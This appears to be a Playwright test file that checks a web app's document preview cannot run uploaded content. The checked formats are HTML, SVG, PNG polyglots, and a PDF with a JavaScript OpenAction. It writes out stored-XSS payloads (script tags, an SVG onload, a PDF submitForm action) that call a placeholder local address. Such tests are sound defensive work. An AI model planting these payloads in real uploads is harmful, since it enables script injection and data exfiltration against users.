"""What people send runs no script in a browser, and reaches nobody, however it is opened (docs/adr/0053)."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager

import pytest
import requests
from playwright.sync_api import Browser, Error, Page, expect

from tests.accounts.pdf_files import ACTIVE, TWO_PAGES
from tests.accounts.test_document_preview import png
from tests.browser.conftest import SIZES
from tests.browser.office import Practice, a_context, looks_well, sign_in

#: Where what runs would go: nobody is there.
ELSEWHERE = "http://127.0.0.1:9/seen"
SCRIPT = f"<script>alert(1);fetch('{ELSEWHERE}')</script><img src='{ELSEWHERE}'>".encode()
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="9" height="9"><image href="'
    + ELSEWHERE.encode()
    + b'"/><script>alert(2)</script></svg>'
)
ACTION = f"<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('{ELSEWHERE}'\\)) >>".encode()
PDF = (
    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction " + ACTION + b" >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
HOSTILE = {
    "svg.svg": SVG,
    "svg.png": SVG,
    "page.html": b"<!doctype html>" + SCRIPT,
    "page.png": b"<!doctype html>" + SCRIPT,
    "action.pdf": PDF,
    "drawn.pdf": ACTIVE,
    "both.html": png(SCRIPT),
}


@pytest.fixture(scope="module")
def client(practice: Practice) -> str:
    return str(practice.add_client()["id"])


def upload(practice: Practice, client: str, name: str, content: bytes) -> str:
    """The document's page."""
    answer = requests.post(
        f"{practice.url}/v1/clients/{client}/documents",
        params={"filename": name},
        data=content,
        headers={**practice.headers, "Content-Type": "application/octet-stream"},
        timeout=30,
    )
    return f"/clients/{client}/documents/{answer.json()['id']}"


@contextmanager
def reaches_nobody(page: Page, url: str) -> Iterator[None]:
    """Nothing that happens in the block sends anything elsewhere; a dialog fails the test (`sign_in`)."""
    sent: list[str] = []
    page.context.on("request", lambda request: sent.append(request.url))
    yield
    page.wait_for_timeout(300)
    assert [each for each in sent if not each.startswith(f"{url}/")] == []


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_it_runs_wherever_it_is_opened(
    chromium: Browser, product_url: str, practice: Practice, client: str, name: str
) -> None:
    place = upload(practice, client, name, HOSTILE[name])
    context = a_context(chromium, product_url)
    page = sign_in(context, practice.email)
    with reaches_nobody(page, product_url):
        for what in ("preview", "picture", "picture?page=1"):
            page.goto(f"{place}/{what}")
        with pytest.raises(Error, match="Download is starting"):
            page.goto(f"{place}/content")
        # In a page of ours, as whatever might run it.
        page.goto(f"/clients/{client}/documents")
        page.evaluate(
            """async (place) => {
                const names = {img: 'src', iframe: 'src', embed: 'src', script: 'src', object: 'data'}
                for (const [tag, name] of Object.entries(names))
                    for (const what of ['picture', 'content']) {
                        const made = document.createElement(tag)
                        made.setAttribute(name, `${place}/${what}`)
                        document.body.append(made)
                    }
            }""",
            place,
        )
    context.close()


@pytest.mark.parametrize("size", SIZES)
def test_a_picture_is_drawn_on_a_page_that_fits(
    chromium: Browser, product_url: str, practice: Practice, client: str, size: str
) -> None:
    upload(practice, client, "Receipt.png", png(SCRIPT))
    context = a_context(chromium, product_url, SIZES[size][0])
    page = sign_in(context, practice.email)
    with reaches_nobody(page, product_url):
        page.goto(f"/clients/{client}/documents")
        page.get_by_role("link", name="Receipt.png").first.click()
        drawn = page.get_by_role("img", name="The picture Receipt.png")
        expect(drawn).to_have_js_property("naturalWidth", 1)
        looks_well(page, "CLIENT-documents-preview")
    context.close()


@pytest.mark.parametrize("size", SIZES)
def test_pages_of_a_pdf_are_turned_and_fit(
    chromium: Browser, product_url: str, practice: Practice, client: str, size: str
) -> None:
    """docs/adr/0066"""
    upload(practice, client, "Bill.pdf", TWO_PAGES)
    context = a_context(chromium, product_url, SIZES[size][0])
    page = sign_in(context, practice.email)
    with reaches_nobody(page, product_url):
        page.goto(f"/clients/{client}/documents")
        page.get_by_role("link", name="Bill.pdf").first.click()
        for number, go_on in ((1, "Next page"), (2, "Previous page")):
            expect(page.get_by_text(f"Page {number} of 2", exact=True)).to_be_visible()
            drawn = page.get_by_role("img", name=f"Page {number} of Bill.pdf")
            expect(drawn).to_have_js_property("naturalWidth", 1240)
            looks_well(page, f"CLIENT-documents-preview-pdf-{number}")
            page.get_by_role("link", name=go_on).click()
        upload(practice, client, "Broken.pdf", TWO_PAGES[:100])
        page.goto(f"/clients/{client}/documents")
        page.get_by_role("link", name="Broken.pdf").first.click()
        expect(page.get_by_text("There is no preview of this document.")).to_be_visible()
        looks_well(page, "CLIENT-documents-preview-none")
    context.close()


def test_a_picture_opened_alone_is_no_page(
    chromium: Browser, product_url: str, practice: Practice, client: str
) -> None:
    """Markup after its end is not read, and it would have no origin."""
    place = upload(practice, client, "both.html", png(SCRIPT))
    context = a_context(chromium, product_url)
    page = sign_in(context, practice.email)
    with reaches_nobody(page, product_url):
        page.goto(f"{place}/picture")
        assert page.evaluate("[document.contentType, self.origin]") == ["image/png", "null"]
    context.close()
